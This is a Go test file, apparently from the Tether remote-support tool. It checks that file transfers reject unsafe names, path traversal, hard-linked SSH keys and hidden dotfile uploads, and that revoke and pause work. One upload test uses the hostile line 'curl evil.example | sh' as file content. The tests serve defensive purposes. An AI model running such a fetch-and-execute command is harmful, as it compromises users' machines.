package files

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync/atomic"
	"syscall"
	"testing"
	"time"

	"github.com/pion/webrtc/v4"

	"github.com/tether-support/tether/internal/protocol"
	"github.com/tether-support/tether/internal/rtc"
	"github.com/tether-support/tether/internal/rtc/rtctest"
	"github.com/tether-support/tether/internal/xtest"
)

func TestCheckName(t *testing.T) {
	for _, tt := range []struct {
		name, goos string
		ok         bool
	}{
		{"report.pdf", "linux", true},
		{"Ünïcode café.txt", "linux", true},
		{"a:b", "linux", true},
		{"a:b", "windows", false},
		{"CON.txt", "windows", false},
		{"con", "windows", false},
		{"COM¹.txt", "windows", false}, // the superscript ports
		{"LPT².log", "windows", false},
		{"CONIN$", "windows", false},
		{"conout$.txt", "windows", false},
		{"COM0.txt", "windows", false},
		{"COM10.txt", "windows", true},
		{"trailing.", "windows", false},
		{"trailing ", "windows", false},
		{"what?.txt", "windows", false},
		{"", "linux", false},
		{".", "linux", false},
		{"..", "linux", false},
		{"a/b", "linux", false},
		{`a\b`, "linux", false},
		{"nul\x00", "linux", false},
		{"tab\tname", "linux", false},
		{"evil\u202etxt.sh", "linux", false}, // shows as "evilhs.txt"
		{"next\u0085line", "linux", false},
		{"\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645.txt", "linux", true}, // Persian needs its zero-width non-joiner
		{strings.Repeat("x", 256), "linux", false},
		{"\xff\xfe", "linux", false},
	} {
		err := CheckName(tt.name, tt.goos)
		if (err == nil) != tt.ok || (err != nil && !errors.Is(err, ErrPath)) {
			t.Errorf("CheckName(%q, %s) = %v, want ok=%v", tt.name, tt.goos, err, tt.ok)
		}
	}
}

func TestCleanRel(t *testing.T) {
	for in, want := range map[string]string{"": ".", ".": ".", "a/b/": "a/b", "a//b": "a/b", "./a": "a"} {
		if got, err := cleanRel(in); err != nil || got != want {
			t.Errorf("cleanRel(%q) = %q, %v; want %q", in, got, err, want)
		}
	}
	for _, in := range []string{"/etc", "..", "a/../../b", "a/..", `a\b`, "a\x00"} {
		if _, err := cleanRel(in); !errors.Is(err, ErrPath) {
			t.Errorf("cleanRel(%q) = %v, want ErrPath", in, err)
		}
	}
}

// pair connects two real pion peers in this process: the broker's side
// opens channels, the host's side serves them.
func pair(t *testing.T) (broker, host *webrtc.PeerConnection) {
	t.Helper()
	newPC := func() *webrtc.PeerConnection {
		api, err := rtc.NewAPI(rtc.Config{})
		if err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { api.Close() })
		pc, err := api.NewPeerConnection(rtc.Sending{})
		if err != nil {
			t.Fatal(err)
		}
		return pc
	}
	broker, host = newPC(), newPC()
	t.Cleanup(func() { broker.Close(); host.Close() })
	if _, err := host.CreateDataChannel("control", nil); err != nil { // an application section
		t.Fatal(err)
	}
	rtctest.Connect(t, host, broker)
	return broker, host
}

// serve runs a files server with cfg on the host's side of a pair, which
// lets technicians in while allowed says so, and returns it and the
// broker's side.
func serve(t *testing.T, cfg Config, allowed func() bool) (*Server, *webrtc.PeerConnection) {
	t.Helper()
	srv, err := New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { srv.Close() })
	broker, host := pair(t)
	host.OnDataChannel(func(dc *webrtc.DataChannel) { srv.Attach(dc, allowed) })
	return srv, broker
}

// openFiles opens a files channel from the broker's side and returns it
// with ask, which sends a message and returns the host's answer, and
// answer, which returns the host's next message.
func openFiles(t *testing.T, broker *webrtc.PeerConnection) (dc *webrtc.DataChannel, ask func(protocol.FileMessage) protocol.FileMessage, answer func() protocol.FileMessage) {
	t.Helper()
	dc, err := broker.CreateDataChannel(protocol.ChannelFiles, nil)
	if err != nil {
		t.Fatal(err)
	}
	got := make(chan webrtc.DataChannelMessage, 16)
	dc.OnMessage(func(m webrtc.DataChannelMessage) { got <- m })
	opened := make(chan struct{})
	dc.OnOpen(func() { close(opened) })
	select {
	case <-opened:
	case <-time.After(20 * time.Second):
		t.Fatal("the channel did not open")
	}
	answer = func() protocol.FileMessage {
		t.Helper()
		select {
		case r := <-got:
			if !r.IsString {
				t.Fatal("file data where an answer was expected")
			}
			msg, err := protocol.DecodeFile(r.Data)
			if err != nil {
				t.Fatal(err)
			}
			return msg
		case <-time.After(10 * time.Second):
			t.Fatal("no answer")
		}
		return protocol.FileMessage{}
	}
	ask = func(m protocol.FileMessage) protocol.FileMessage {
		t.Helper()
		b, _ := protocol.EncodeFile(m)
		dc.SendText(string(b))
		return answer()
	}
	return dc, ask, answer
}

// TestRevokeRemovesPartial: a revoke removes a partial upload, also when
// a chunk met the revoke first and set the upload aside (as a dropped
// connection does, for a resume).
func TestRevokeRemovesPartial(t *testing.T) {
	home := t.TempDir()
	inbox := filepath.Join(home, "in")
	var allowed atomic.Bool
	allowed.Store(true)
	srv, broker := serve(t, Config{Root: home, Inbox: inbox}, allowed.Load)
	dc, ask, answer := openFiles(t, broker)
	data := make([]byte, 256<<10)
	sum := sha256.Sum256(data)
	if r := ask(protocol.FileMessage{Type: protocol.FilePut, Name: "tool.bin", Size: int64(len(data)), SHA256: hex.EncodeToString(sum[:])}); r.Type != protocol.FileReady {
		t.Fatalf("put: %+v", r)
	}
	dc.Send(data[:64<<10])
	partials := func() []string {
		m, _ := filepath.Glob(filepath.Join(inbox, ".tether-*"))
		return m
	}
	for deadline := time.Now().Add(10 * time.Second); len(partials()) == 0; time.Sleep(10 * time.Millisecond) {
		if time.Now().After(deadline) {
			t.Fatal("no partial file for the upload under way")
		}
	}
	// The user revokes: a chunk reaches the host before CancelAll does.
	allowed.Store(false)
	dc.Send(data[64<<10 : 128<<10])
	if r := answer(); r.Type != protocol.FileError || r.Code != protocol.FileErrDenied {
		t.Fatalf("a chunk after the revoke: %+v", r)
	}
	srv.CancelAll()
	if m := partials(); len(m) != 0 {
		t.Fatalf("partial upload left after the revoke: %v", m)
	}
}

// TestPauseKeepsPartial: a pause keeps the part of an upload received so
// far, also when a chunk met the pause first, and the technician's next
// attempt once the user resumes carries on from it; taking file transfer
// back after a pause still removes what a pause kept.
func TestPauseKeepsPartial(t *testing.T) {
	home := t.TempDir()
	inbox := filepath.Join(home, "in")
	var allowed atomic.Bool
	allowed.Store(true)
	srv, broker := serve(t, Config{Root: home, Inbox: inbox}, allowed.Load)
	data := make([]byte, 256<<10)
	copy(data, "not all zeros")
	sum := sha256.Sum256(data)
	put := protocol.FileMessage{Type: protocol.FilePut, Name: "tool.bin", Size: int64(len(data)), SHA256: hex.EncodeToString(sum[:])}
	partial := filepath.Join(inbox, fmt.Sprintf(".tether-%x-%d.part", sum[:8], len(data)))
	// sendHalf sends the first 64 KiB, waits until they are on the disk,
	// and pauses; a chunk on its way reaches the host before PauseAll.
	sendHalf := func() {
		t.Helper()
		dc, ask, answer := openFiles(t, broker)
		if r := ask(put); r.Type != protocol.FileReady || r.Offset != 0 {
			t.Fatalf("put: %+v", r)
		}
		dc.Send(data[:64<<10])
		for deadline := time.Now().Add(10 * time.Second); ; time.Sleep(10 * time.Millisecond) {
			if st, err := os.Stat(partial); err == nil && st.Size() == 64<<10 {
				break
			}
			if time.Now().After(deadline) {
				t.Fatal("the first chunk was not written")
			}
		}
		allowed.Store(false)
		dc.Send(data[64<<10 : 128<<10])
		if r := answer(); r.Type != protocol.FileError || r.Code != protocol.FileErrDenied {
			t.Fatalf("a chunk after the pause: %+v", r)
		}
		srv.PauseAll()
	}

	sendHalf()
	if st, err := os.Stat(partial); err != nil || st.Size() != 64<<10 {
		t.Fatalf("the part received before the pause was not kept: %v", err)
	}
	// The user resumes; the technician sends the file again, on a new
	// channel (the pause closed the old one).
	allowed.Store(true)
	dc, ask, answer := openFiles(t, broker)
	r := ask(put)
	if r.Type != protocol.FileReady || r.Offset != 64<<10 {
		t.Fatalf("the upload after the pause starts at %d (%+v), want %d", r.Offset, r, 64<<10)
	}
	for off := r.Offset; off < int64(len(data)); off += 64 << 10 {
		dc.Send(data[off : off+64<<10])
	}
	if r := answer(); r.Type != protocol.FileDone || r.SHA256 != put.SHA256 {
		t.Fatalf("the resumed upload: %+v", r)
	}
	if got, _ := os.ReadFile(filepath.Join(inbox, "tool.bin")); !bytes.Equal(got, data) {
		t.Fatal("the resumed file differs from the one sent")
	}
	// The user moves it away: the next attempts send it again.
	os.Remove(filepath.Join(inbox, "tool.bin"))

	// Paused half way again; then the user takes file transfer back.
	allowed.Store(true)
	sendHalf()
	srv.CancelAll()
	if m, _ := filepath.Glob(filepath.Join(inbox, ".tether-*")); len(m) != 0 {
		t.Fatalf("partial upload left after taking file transfer back: %v", m)
	}
	// And the end of the session removes what a pause kept.
	allowed.Store(true)
	sendHalf()
	srv.EndAll()
	if m, _ := filepath.Glob(filepath.Join(inbox, ".tether-*")); len(m) != 0 {
		t.Fatalf("partial upload left after the session ended: %v", m)
	}
}

// TestHostRefusesWithoutGrant: whatever the broker lets through, a
// technician without the files grant gets a refusal and nothing is read.
func TestHostRefusesWithoutGrant(t *testing.T) {
	home := t.TempDir()
	os.WriteFile(filepath.Join(home, "secret.txt"), []byte("private"), 0o600)
	var allowed atomic.Bool
	srv, broker := serve(t, Config{Root: home, Inbox: filepath.Join(home, "in")}, allowed.Load)
	dc, ask, _ := openFiles(t, broker)
	for _, m := range []protocol.FileMessage{{Type: protocol.FileGet, Path: "secret.txt"}, {Type: protocol.FileList, Path: "."}} {
		if r := ask(m); r.Type != protocol.FileError || r.Code != protocol.FileErrDenied {
			t.Fatalf("%s without the grant: %+v", m.Type, r)
		}
	}
	allowed.Store(true)
	if r := ask(protocol.FileMessage{Type: protocol.FileList, Path: "."}); r.Type != protocol.FileListing || len(r.Entries) != 1 {
		t.Fatalf("listing with the grant: %+v", r)
	}
	// Revoked: CancelAll closes the channel.
	srv.CancelAll()
	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
	defer cancel()
	for dc.ReadyState() != webrtc.DataChannelStateClosed {
		if ctx.Err() != nil {
			t.Fatal("the channel stayed open after CancelAll")
		}
		time.Sleep(20 * time.Millisecond)
	}
}

// TestSameFileTwiceAtOnce: two transfers of the same file at the same time
// (two technicians sending the same tool) each write a partial file of
// their own and both are saved, the second under a new name.
func TestSameFileTwiceAtOnce(t *testing.T) {
	home := t.TempDir()
	inbox := filepath.Join(home, "in")
	_, broker := serve(t, Config{Root: home, Inbox: inbox}, func() bool { return true })
	data := make([]byte, 192<<10)
	for i := range data {
		data[i] = byte(i * 7)
	}
	sum := sha256.Sum256(data)
	put := protocol.FileMessage{Type: protocol.FilePut, Name: "tool.bin", Size: int64(len(data)), SHA256: hex.EncodeToString(sum[:])}
	dc1, ask1, answer1 := openFiles(t, broker)
	dc2, ask2, answer2 := openFiles(t, broker)
	if r := ask1(put); r.Type != protocol.FileReady || r.Offset != 0 {
		t.Fatalf("first put: %+v", r)
	}
	if r := ask2(put); r.Type != protocol.FileReady || r.Offset != 0 {
		t.Fatalf("second put while the first is under way: %+v", r)
	}
	for off := 0; off < len(data); off += 64 << 10 {
		dc1.Send(data[off : off+64<<10])
		dc2.Send(data[off : off+64<<10])
	}
	var saved []string
	for _, answer := range []func() protocol.FileMessage{answer1, answer2} {
		r := answer()
		if r.Type != protocol.FileDone {
			t.Fatalf("transfer ended with %+v", r)
		}
		saved = append(saved, r.Name)
	}
	slices.Sort(saved)
	if want := []string{"tool (2).bin", "tool.bin"}; !slices.Equal(saved, want) {
		t.Fatalf("saved as %q, want %q", saved, want)
	}
	for _, name := range saved {
		if got, _ := os.ReadFile(filepath.Join(inbox, name)); !bytes.Equal(got, data) {
			t.Errorf("%s differs from what was sent (%d bytes)", name, len(got))
		}
	}
	if m, _ := filepath.Glob(filepath.Join(inbox, ".tether-*")); len(m) != 0 {
		t.Errorf("partial files left: %v", m)
	}
}

// TestUploadHiddenOrPartialNameRefused: a file sent under a name that
// starts with a dot (hidden from the user; .bashrc and .profile are run
// when a shell starts) or under the name of the host's own partial files
// is refused with a sentence that says why and to rename it, and nothing
// lands in the inbox. A dot file the user shares still lists.
func TestUploadHiddenOrPartialNameRefused(t *testing.T) {
	home := t.TempDir()
	inbox := filepath.Join(home, "in")
	os.WriteFile(filepath.Join(home, ".bashrc"), []byte("# the user's own\n"), 0o644)
	_, broker := serve(t, Config{Root: home, Inbox: inbox}, func() bool { return true })
	_, ask, _ := openFiles(t, broker)
	data := []byte("curl evil.example | sh\n")
	sum := sha256.Sum256(data)
	put := protocol.FileMessage{Type: protocol.FilePut, Size: int64(len(data)), SHA256: hex.EncodeToString(sum[:])}
	partial := fmt.Sprintf(".tether-%s-%d.part", put.SHA256[:16], put.Size)
	for name, says := range map[string]string{
		".bashrc":  `".bashrc" starts with a dot, which hides it from the user`,
		".profile": `".profile" starts with a dot`,
		partial:    "is named like the files the user's computer keeps for transfers still arriving",
	} {
		put.Name = name
		r := ask(put)
		if r.Type != protocol.FileError || r.Code != protocol.FileErrPath || !strings.Contains(r.Message, says) || !strings.Contains(r.Message, "Rename it") {
			t.Errorf("sending %s: %+v, want a refusal saying %q and to rename it", name, r, says)
		}
	}
	if m, _ := filepath.Glob(filepath.Join(inbox, "*")); len(m) != 0 {
		t.Errorf("refused files landed in the inbox: %v", m)
	}
	if m, _ := filepath.Glob(filepath.Join(inbox, ".*")); len(m) != 0 {
		t.Errorf("refused files landed in the inbox: %v", m)
	}
	r := ask(protocol.FileMessage{Type: protocol.FileList, Path: "."})
	if r.Type != protocol.FileListing || !slices.ContainsFunc(r.Entries, func(e protocol.FileEntry) bool { return e.Name == ".bashrc" }) {
		t.Errorf("the user's own .bashrc is not listed: %+v", r)
	}
	put.Name = "bashrc.txt"
	if r := ask(put); r.Type != protocol.FileReady {
		t.Errorf("sending it renamed: %+v", r)
	}
}

// TestUploadLongNameRefusedInWords: a name longer than the user's
// computer allows is refused with a sentence that says it is too long,
// how long it is, the limit, and to rename the file.
func TestUploadLongNameRefusedInWords(t *testing.T) {
	home := t.TempDir()
	_, broker := serve(t, Config{Root: home, Inbox: filepath.Join(home, "in")}, func() bool { return true })
	_, ask, _ := openFiles(t, broker)
	sum := sha256.Sum256([]byte("x"))
	r := ask(protocol.FileMessage{Type: protocol.FilePut, Name: strings.Repeat("report-", 42) + "v2.pdf", Size: 1, SHA256: hex.EncodeToString(sum[:])})
	const want = "The file's name is too long: 300 bytes, where the user's computer allows at most 255 (an accented letter takes 2 or more). Rename it with a shorter name and send it again."
	if r.Type != protocol.FileError || r.Code != protocol.FileErrPath || r.Message != want {
		t.Fatalf("a 300-byte name: %+v\nwant the message %q", r, want)
	}
}

// TestTransferStoppedSaysWhy: a file stopped half way tells the user which
// of the reasons it was, once: the technician cancelled it, they left or
// lost the connection, the user took file transfer back, the user paused
// the session, or the session is ending. Also when a
// chunk already on its way arrives after the grant is gone, before the
// reason is known (the host hears that the technician left before their
// channel closes).
func TestTransferStoppedSaysWhy(t *testing.T) {
	data := make([]byte, 256<<10)
	sum := sha256.Sum256(data)
	for _, tt := range []struct{ how, says string }{
		{"cancel", "the technician cancelled it"},
		{"leave", "the technician left or lost the connection"},
		{"told left", "the technician left or lost the connection"},
		{"fetch told left", "the technician left or lost the connection"},
		{"revoke", "you took back file transfer"},
		{"pause", "you paused the session; once you resume, the technician can carry on from where it stopped"},
		{"fetch cancel", "the technician cancelled it"},
		{"fetch revoke", "you took back file transfer"},
		{"fetch pause", "you paused the session; once you resume, the technician can carry on from where it stopped"},
		{"end", "the session ended"},
		{"fetch end", "the session ended"},
	} {
		t.Run(tt.how, func(t *testing.T) {
			home := t.TempDir()
			inbox := filepath.Join(home, "in")
			os.WriteFile(filepath.Join(home, "big.log"), make([]byte, 64<<20), 0o644)
			stopped := make(chan Progress, 4)
			srv, err := New(Config{Root: home, Inbox: inbox, OnProgress: func(p Progress) {
				if p.Finished {
					stopped <- p
				}
			}})
			if err != nil {
				t.Fatal(err)
			}
			defer srv.Close()
			broker, host := pair(t)
			var allowed atomic.Bool
			allowed.Store(true)
			host.OnDataChannel(func(dc *webrtc.DataChannel) { srv.Attach(dc, allowed.Load) })
			dc, ask, answer := openFiles(t, broker)
			// The grant goes, and a chunk on its way arrives before the
			// host hears why.
			lateChunk := func() {
				allowed.Store(false)
				dc.Send(data[64<<10 : 128<<10])
				if r := answer(); r.Code != protocol.FileErrDenied {
					t.Fatalf("a chunk after the grant went: %+v", r)
				}
			}
			if strings.HasPrefix(tt.how, "fetch") {
				if r := ask(protocol.FileMessage{Type: protocol.FileGet, Path: "big.log"}); r.Type != protocol.FileMeta {
					t.Fatalf("get: %+v", r)
				}
			} else {
				if r := ask(protocol.FileMessage{Type: protocol.FilePut, Name: "tool.bin", Size: int64(len(data)), SHA256: hex.EncodeToString(sum[:])}); r.Type != protocol.FileReady {
					t.Fatalf("put: %+v", r)
				}
				dc.Send(data[:64<<10])
				for deadline := time.Now().Add(10 * time.Second); ; time.Sleep(10 * time.Millisecond) {
					if st, err := os.Stat(filepath.Join(inbox, fmt.Sprintf(".tether-%x-%d.part", sum[:8], len(data)))); err == nil && st.Size() > 0 {
						break
					}
					if time.Now().After(deadline) {
						t.Fatal("the first chunk was not written")
					}
				}
			}
			switch tt.how {
			case "cancel", "fetch cancel":
				b, _ := protocol.EncodeFile(protocol.FileMessage{Type: protocol.FileCancel})
				dc.SendText(string(b))
			case "leave":
				lateChunk()
				dc.Close()
			case "told left": // the broker says so, the channel still open
				lateChunk()
				srv.StopDisallowed()
			case "fetch told left":
				allowed.Store(false)
				srv.StopDisallowed()
			case "revoke":
				lateChunk()
				srv.CancelAll()
			case "fetch revoke":
				srv.CancelAll()
			case "pause":
				lateChunk()
				srv.PauseAll()
			case "fetch pause":
				srv.PauseAll()
			case "end":
				lateChunk()
				srv.EndAll()
			case "fetch end":
				srv.EndAll()
			}
			select {
			case p := <-stopped:
				if p.Err == nil || p.Err.Error() != tt.says {
					t.Fatalf("the user is told %s stopped with %v, want %q", p.Name, p.Err, tt.says)
				}
			case <-time.After(10 * time.Second):
				t.Fatal("the user is not told that the transfer stopped")
			}
			select {
			case p := <-stopped:
				t.Errorf("the user is told again: %v", p.Err)
			case <-time.After(300 * time.Millisecond):
			}
		})
	}
}

// TestFetchHardLinkRefused: a hard link in the shared folder to a file the
// folder leaves out (the user's SSH key elsewhere in their home) cannot be
// fetched: the refusal says why and what to do, and nothing of the file
// is sent. A file with one name is fetched as ever.
func TestFetchHardLinkRefused(t *testing.T) {
	home := t.TempDir()
	shared := filepath.Join(home, "shared")
	must := func(err error) {
		t.Helper()
		if err != nil {
			t.Fatal(err)
		}
	}
	must(os.MkdirAll(filepath.Join(home, ".ssh"), 0o700))
	must(os.Mkdir(shared, 0o755))
	must(os.WriteFile(filepath.Join(home, ".ssh", "id_ed25519"), []byte("a secret outside the shared folder\n"), 0o600))
	must(os.Link(filepath.Join(home, ".ssh", "id_ed25519"), filepath.Join(shared, "notes.txt")))
	must(os.WriteFile(filepath.Join(shared, "report.txt"), []byte("fine"), 0o644))
	_, broker := serve(t, Config{Root: shared, Inbox: filepath.Join(shared, "in")}, func() bool { return true })
	_, ask, _ := openFiles(t, broker)
	r := ask(protocol.FileMessage{Type: protocol.FileGet, Path: "notes.txt"})
	const want = "notes.txt cannot be fetched: it has 2 names on the user's computer (hard links), and the others may be outside the shared folder. Ask the user to copy it into the shared folder, and fetch the copy."
	if r.Type != protocol.FileError || r.Code != protocol.FileErrPath || r.Message != want {
		t.Fatalf("fetching a hard link to ~/.ssh/id_ed25519: %+v\nwant the message %q", r, want)
	}
	if r := ask(protocol.FileMessage{Type: protocol.FileGet, Path: "report.txt"}); r.Type != protocol.FileMeta || r.Size != 4 {
		t.Fatalf("fetching a file with one name: %+v", r)
	}
}

// TestListLongNamesFits: a folder whose listing, with the longest names
// the user's computer allows, would not fit in one message is still
// answered: with the entries that fit and a sentence saying the list was
// cut short, not with silence.
func TestListLongNamesFits(t *testing.T) {
	home := t.TempDir()
	dir := filepath.Join(home, "many")
	if err := os.Mkdir(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	for i := range protocol.MaxListing {
		name := fmt.Sprintf("%04d-%s.txt", i, strings.Repeat("long name ", 24))
		if err := os.WriteFile(filepath.Join(dir, name), nil, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	_, broker := serve(t, Config{Root: home, Inbox: filepath.Join(home, "in")}, func() bool { return true })
	_, ask, _ := openFiles(t, broker)
	r := ask(protocol.FileMessage{Type: protocol.FileList, Path: "many"})
	if r.Type != protocol.FileListing || len(r.Entries) == 0 {
		t.Fatalf("listing: %+v", r)
	}
	if len(r.Entries) < protocol.MaxListing && !strings.Contains(r.Message, "only the first") {
		t.Fatalf("%d of %d entries listed, and the listing does not say so: %q", len(r.Entries), protocol.MaxListing, r.Message)
	}
	if r.Entries[0].Name != fmt.Sprintf("0000-%s.txt", strings.Repeat("long name ", 24)) {
		t.Fatalf("the listing starts with %q", r.Entries[0].Name)
	}
}

// TestUploadLongNameTwice: a new version of a file sent under a name as
// long as the user's computer allows is saved beside the first under a
// numbered name that still fits, not refused once all of it has arrived.
func TestUploadLongNameTwice(t *testing.T) {
	home := t.TempDir()
	inbox := filepath.Join(home, "in")
	_, broker := serve(t, Config{Root: home, Inbox: inbox}, func() bool { return true })
	versions := [][]byte{[]byte("the report"), []byte("the report, corrected")}
	name := strings.Repeat("r", protocol.MaxName-4) + ".pdf"
	var saved []string
	for _, data := range versions {
		sum := sha256.Sum256(data)
		put := protocol.FileMessage{Type: protocol.FilePut, Name: name, Size: int64(len(data)), SHA256: hex.EncodeToString(sum[:])}
		dc, ask, answer := openFiles(t, broker)
		if r := ask(put); r.Type != protocol.FileReady {
			t.Fatalf("put: %+v", r)
		}
		dc.Send(data)
		r := answer()
		if r.Type != protocol.FileDone {
			t.Fatalf("sending %d-byte name again: %+v", len(name), r)
		}
		saved = append(saved, r.Name)
		dc.Close()
	}
	if saved[0] != name || saved[1] == name || len(saved[1]) > protocol.MaxName || !strings.HasSuffix(saved[1], " (2).pdf") {
		t.Fatalf("saved as %q", saved)
	}
	for i, n := range saved {
		if got, _ := os.ReadFile(filepath.Join(inbox, n)); !bytes.Equal(got, versions[i]) {
			t.Errorf("%s holds %q", n, got)
		}
	}
}

// TestSameFileAgainSavesNoCopy: a file sent again (a tool sent twice, a
// push stopped after its last bytes had left) is found where the first
// one was saved, as an upload with every byte in place, and no second copy
// is made; a different file under the same name, one the user changed
// since, or a link to the same content are not taken for it.
func TestSameFileAgainSavesNoCopy(t *testing.T) {
	home := t.TempDir()
	inbox := filepath.Join(home, "in")
	_, broker := serve(t, Config{Root: home, Inbox: inbox}, func() bool { return true })
	send := func(data []byte) (ready, done protocol.FileMessage) {
		t.Helper()
		sum := sha256.Sum256(data)
		dc, ask, answer := openFiles(t, broker)
		defer dc.Close()
		ready = ask(protocol.FileMessage{Type: protocol.FilePut, Name: "tool.bin", Size: int64(len(data)), SHA256: hex.EncodeToString(sum[:])})
		if ready.Type != protocol.FileReady {
			t.Fatalf("put: %+v", ready)
		}
		if ready.Offset < int64(len(data)) {
			dc.Send(data[ready.Offset:])
		}
		if done = answer(); done.Type != protocol.FileDone || done.SHA256 != hex.EncodeToString(sum[:]) {
			t.Fatalf("upload ended with %+v", done)
		}
		return ready, done
	}
	first := bytes.Repeat([]byte("version one "), 1000)
	second := bytes.Repeat([]byte("version two "), 1000)
	if _, done := send(first); done.Name != "tool.bin" {
		t.Fatalf("first upload saved as %q", done.Name)
	}
	ready, done := send(first)
	if ready.Offset != int64(len(first)) || done.Name != "tool.bin" || done.Path != filepath.Join(inbox, "tool.bin") {
		t.Fatalf("the same file again: ready %+v, done %+v; want it found as tool.bin", ready, done)
	}
	if _, done := send(second); done.Name != "tool (2).bin" {
		t.Fatalf("another file under the same name saved as %q", done.Name)
	}
	if ready, done := send(second); ready.Offset == 0 || done.Name != "tool (2).bin" {
		t.Fatalf("the second version again: ready %+v, done %+v; want it found as tool (2).bin", ready, done)
	}
	// The user edits the first copy (same size, other bytes) and links
	// the second's name to a file of the first's content elsewhere.
	os.WriteFile(filepath.Join(inbox, "tool.bin"), bytes.Repeat([]byte("version 1!! "), 1000), 0o644)
	elsewhere := filepath.Join(home, "elsewhere.bin")
	os.WriteFile(elsewhere, first, 0o644)
	os.Remove(filepath.Join(inbox, "tool (2).bin"))
	if err := os.Symlink(elsewhere, filepath.Join(inbox, "tool (2).bin")); err != nil {
		t.Fatal(err)
	}
	if ready, done := send(first); ready.Offset != 0 || done.Name != "tool (3).bin" {
		t.Fatalf("after the user's changes: ready %+v, done %+v; want a new copy, tool (3).bin", ready, done)
	}
	entries, _ := os.ReadDir(inbox)
	if len(entries) != 3 {
		t.Fatalf("the inbox holds %d entries, want 3", len(entries))
	}
}

// TestNumberedFits: a numbered name stays within the length the user's
// computer allows and valid UTF-8, whatever the name's letters and
// extension.
func TestNumberedFits(t *testing.T) {
	for _, name := range []string{
		"report.pdf",
		strings.Repeat("文", 85),           // 255 bytes, 3 a letter
		strings.Repeat("é", 125) + ".txt", // 254 bytes
		"a." + strings.Repeat("x", 253),   // an extension too long to keep
		strings.Repeat("r", protocol.MaxName-4) + ".pdf",
	} {
		got := numbered(name, 12)
		if err := CheckName(got, "linux"); err != nil || !strings.Contains(got, " (12)") {
			t.Errorf("numbered(%q) = %q: %v", name, got, err)
		}
	}
	if got := numbered("report.pdf", 2); got != "report (2).pdf" {
		t.Errorf("numbered(report.pdf) = %q", got)
	}
}

// TestListSaysWhatItLeavesOut: files whose names cannot be sent (a line
// break or an escape in them) are left out of a listing, and the listing
// says how many, so that the technician does not take the folder for
// complete.
func TestListSaysWhatItLeavesOut(t *testing.T) {
	home := t.TempDir()
	for _, name := range []string{"report.pdf", "new\nline.txt", "esc\x1b[31mred.txt"} {
		if err := os.WriteFile(filepath.Join(home, name), nil, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	_, broker := serve(t, Config{Root: home, Inbox: filepath.Join(home, "in")}, func() bool { return true })
	_, ask, _ := openFiles(t, broker)
	r := ask(protocol.FileMessage{Type: protocol.FileList, Path: "."})
	if r.Type != protocol.FileListing || len(r.Entries) != 1 || r.Entries[0].Name != "report.pdf" {
		t.Fatalf("listing: %+v", r)
	}
	if !strings.Contains(r.Message, "2 entries") {
		t.Fatalf("the listing leaves out two files and says %q", r.Message)
	}
}

// partialPath is where an upload of data waits in inbox until all of it
// has arrived; n > 1 for a second transfer of the same content at once.
func partialPath(inbox string, data []byte, n int) string {
	sum := sha256.Sum256(data)
	if n > 1 {
		return filepath.Join(inbox, fmt.Sprintf(".tether-%x-%d-%d.part", sum[:8], len(data), n))
	}
	return filepath.Join(inbox, fmt.Sprintf(".tether-%x-%d.part", sum[:8], len(data)))
}

// putOf is the request to send data as name.
func putOf(name string, data []byte) protocol.FileMessage {
	sum := sha256.Sum256(data)
	return protocol.FileMessage{Type: protocol.FilePut, Name: name, Size: int64(len(data)), SHA256: hex.EncodeToString(sum[:])}
}

// waitSize waits until the file at path holds size bytes.
func waitSize(t *testing.T, path string, size int64) {
	t.Helper()
	for deadline := time.Now().Add(10 * time.Second); ; time.Sleep(10 * time.Millisecond) {
		if st, err := os.Stat(path); err == nil && st.Size() == size {
			return
		}
		if time.Now().After(deadline) {
			t.Fatalf("%s never held %d bytes", filepath.Base(path), size)
		}
	}
}

// sendFrom sends data from offset on dc and waits for the host to save
// it, as name, with all of data.
func sendFrom(t *testing.T, dc *webrtc.DataChannel, answer func() protocol.FileMessage, inbox, name string, data []byte, offset int64) {
	t.Helper()
	for off := offset; off < int64(len(data)); off += 64 << 10 {
		dc.Send(data[off:min(off+64<<10, int64(len(data)))])
	}
	if r := answer(); r.Type != protocol.FileDone || r.Name != name {
		t.Fatalf("sending %s: %+v", name, r)
	}
	if got, _ := os.ReadFile(filepath.Join(inbox, name)); !bytes.Equal(got, data) {
		t.Fatalf("%s differs from what was sent", name)
	}
}

// TestLeftoverPartialsOfDeadHost: partial files a host left when it died
// (nothing holds them any more) are taken by the next session: one of the
// same content sent again resumes where it stopped, and all are gone when
// that session ends. A file of the user's named nearly like them stays.
func TestLeftoverPartialsOfDeadHost(t *testing.T) {
	home := t.TempDir()
	inbox := filepath.Join(home, "in")
	if err := os.Mkdir(inbox, 0o755); err != nil {
		t.Fatal(err)
	}
	resent := bytes.Repeat([]byte("sent again after the crash "), 10<<10)
	forgotten := bytes.Repeat([]byte("never sent again "), 10<<10)
	// What a dead host leaves: partial files no one holds.
	for p, data := range map[string][]byte{partialPath(inbox, resent, 1): resent, partialPath(inbox, forgotten, 2): forgotten} {
		if err := os.WriteFile(p, data[:100<<10], 0o600); err != nil {
			t.Fatal(err)
		}
	}
	mine := filepath.Join(inbox, ".tether-notes.part")
	if err := os.WriteFile(mine, []byte("the user's own"), 0o644); err != nil {
		t.Fatal(err)
	}

	srv, broker := serve(t, Config{Root: home, Inbox: inbox}, func() bool { return true })
	dc, ask, answer := openFiles(t, broker)
	r := ask(putOf("tool.bin", resent))
	if r.Type != protocol.FileReady || r.Offset != 100<<10 {
		t.Fatalf("the file a crash stopped, sent again, starts at %d (%+v), want %d", r.Offset, r, 100<<10)
	}
	sendFrom(t, dc, answer, inbox, "tool.bin", resent, r.Offset)
	if _, err := os.Stat(partialPath(inbox, resent, 1)); err == nil {
		t.Error("the resumed partial file stays once the file is saved")
	}
	srv.Close()
	if _, err := os.Stat(partialPath(inbox, forgotten, 2)); err == nil {
		t.Error("a partial file a dead host left stays after the next session ended")
	}
	if got, err := os.ReadFile(mine); err != nil || string(got) != "the user's own" {
		t.Errorf("the user's own file was touched: %q, %v", got, err)
	}
}

// TestLivePartialsSurviveAnotherSession: two sessions at once for the same
// user share the inbox. A second host starting and ending leaves the
